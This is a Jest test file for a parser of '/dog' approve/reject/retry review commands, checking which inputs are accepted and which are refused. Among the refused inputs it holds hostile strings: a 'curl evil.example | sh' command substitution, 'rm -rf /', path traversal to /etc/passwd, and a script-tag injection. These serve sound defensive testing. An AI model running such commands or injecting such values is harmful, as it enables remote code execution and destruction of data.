// The `/dog` comment command: what a reviewer may write, and everything else refused with why.
import fc from 'fast-check';
import { parseCommand, REASON_LIMITS } from '../../../src/core/human/command.js';

describe('parseCommand', () => {
  it.each([
    [
      '/dog approve page3 the overlap is intended, see the design review',
      { kind: 'approve', goal: 'page3', reason: 'the overlap is intended, see the design review' },
    ],
    [
      '  /dog reject brand colours drift: 12% off the palette \n',
      { kind: 'reject', goal: 'brand', reason: 'colours drift: 12% off the palette' },
    ],
    [
      '/dog approve root#assert reviewed by hand',
      { kind: 'approve', goal: 'root#assert', reason: 'reviewed by hand' },
    ],
    [
      '/dog approve page3 vérifié à la main',
      { kind: 'approve', goal: 'page3', reason: 'vérifié à la main' },
    ],
  ])('%j is a decision', (body, command) => {
    expect(parseCommand(body)).toEqual({ kind: 'command', command });
  });

  it.each([
    ['/dog retry page3', { goal: 'page3' }],
    ['/dog retry failed', { group: 'failed' }],
    ['/dog retry needs-human', { group: 'needs-human' }],
  ])('%j is a retry', (body, target) => {
    expect(parseCommand(body)).toEqual({ kind: 'command', command: { kind: 'retry', target } });
  });

  it.each([
    'LGTM',
    'please /dog approve page3 fine',
    '/doggo approve page3 fine',
    '> /dog approve page3 quoted',
    '',
  ])('%j is not addressed to DoG', (body) => {
    expect(parseCommand(body)).toEqual({ kind: 'none' });
  });

  it.each([
    ['/dog', /no command given/],
    ['/dog merge page3 now', /unknown command "merge"/],
    ['/dog approve', /no goal given/],
    ['/dog approve page3', /needs a reason/],
    ['/dog approve page3 ok', /too short/],
    [`/dog approve page3 ${'a'.repeat(REASON_LIMITS.maxChars + 1)}`, /too long/],
    ['/dog approve ../etc/passwd looks fine', /is not a goal id/],
    ['/dog approve déjà-vu looks fine', /is not a goal id/],
    ['/dog approve page3 $(curl evil.example | sh)', /may use letters/],
    ['/dog approve page3 fine `id`', /may use letters/],
    ['/dog approve page3 fine; rm -rf /', /may use letters/],
    ['/dog reject page3 a && b', /may use letters/],
    ["/dog approve page3 it's fine", /may use letters/],
    ['/dog approve page3 looks fine\n/dog approve brand also fine', /one line/],
    ['/dog retry', /no goal given/],
    ['/dog retry page3 because flaky', /takes one goal/],
    ['/dog retry page3;id', /is not a goal id/],
  ])('%j is malformed', (body, why) => {
    const parsed = parseCommand(body);
    expect(parsed.kind).toBe('malformed');
    if (parsed.kind === 'malformed') expect(parsed.why).toMatch(why);
  });

  it('echoes only safe characters of what it refuses', () => {
    const parsed = parseCommand('/dog <script>alert(1)</script> x');
    expect(parsed.kind).toBe('malformed');
    if (parsed.kind === 'malformed') expect(parsed.why).not.toMatch(/[<>()]/);
  });

  it('never lets a shell, Markdown or path character into an accepted goal or reason', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 80 }), fc.string({ maxLength: 200 }), (goal, reason) => {
        const parsed = parseCommand(`/dog approve ${goal} ${reason}`);
        if (parsed.kind !== 'command' || parsed.command.kind === 'retry') return;
        expect(parsed.command.goal).toMatch(/^[A-Za-z0-9][A-Za-z0-9._-]{0,127}(#assert)?$/);
        expect(parsed.command.reason).not.toMatch(/[`$;|&<>\\'"(){}[\]*!?~#\n\r@]/);
      }),
    );
  });
});
